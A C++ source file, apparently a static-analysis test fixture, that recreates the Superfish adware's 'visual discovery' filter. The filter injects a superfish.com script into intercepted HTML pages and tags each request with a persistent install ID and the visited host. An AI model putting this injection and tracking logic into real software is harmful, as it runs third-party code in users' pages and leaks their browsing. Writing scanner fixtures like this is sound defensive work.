// visual_discovery.cpp - the Superfish content filter: adds the "similar
// products" script to shopping pages.
#include "komodia.h"

#include <algorithm>
#include <array>
#include <cstdio>
#include <fstream>
#include <random>
#include <sstream>

namespace komodia {
namespace {

const std::array<const char *, 3> kCdnHosts = {"https://www.superfish.com/ws", "https://cdn1.superfish.com/ws",
                                               "https://cdn2.superfish.com/ws"};

const std::array<const char *, 4> kNeverInject = {"bank", "paypal.com", "login.", "accounts."};

class VisualDiscovery final : public Filter {
public:
  explicit VisualDiscovery(std::string install_id) : install_id_(std::move(install_id)), rng_(std::random_device{}()) {}

  bool wants(const std::string &host, const std::string &content_type) const override
  {
    if (content_type.rfind("text/html", 0) != 0) {
      return false;
    }
    return std::none_of(kNeverInject.begin(), kNeverInject.end(),
                        [&](const char *word) { return host.find(word) != std::string::npos; });
  }

  void on_body(const std::string &host, std::string &body) override
  {
    auto at = body.rfind("</body>");
    if (at == std::string::npos) {
      return;
    }
    // spread the page loads over the CDN hosts
    // ok: backdoor-predictable-random
    const char *cdn = kCdnHosts[rng_() % kCdnHosts.size()];
    std::ostringstream tag;
    tag << "<script type=\"text/javascript\" src=\"" << cdn << "/sf_main.jsp?dlsource=hdrykzc&userId="
        << install_id_ << "&CTID=" << host << "\"></script>";
    body.insert(at, tag.str());
  }

private:
  std::string install_id_;
  std::mt19937 rng_;
};

std::string load_or_make_install_id(const std::string &path)
{
  std::ifstream in(path);
  std::string id;
  if (in && std::getline(in, id) && id.size() == 16) {
    return id;
  }
  std::mt19937_64 gen(std::random_device{}());
  char text[17];
  // an install identifier for the statistics, not a credential
  // ok: backdoor-predictable-random
  const unsigned long long install_id = gen();
  std::snprintf(text, sizeof text, "%016llx", install_id);
  std::ofstream(path) << text << "\n";
  return text;
}

} // namespace

std::unique_ptr<Filter> make_visual_discovery(const std::string &install_id_path)
{
  return std::make_unique<VisualDiscovery>(load_or_make_install_id(install_id_path));
}

} // namespace komodia
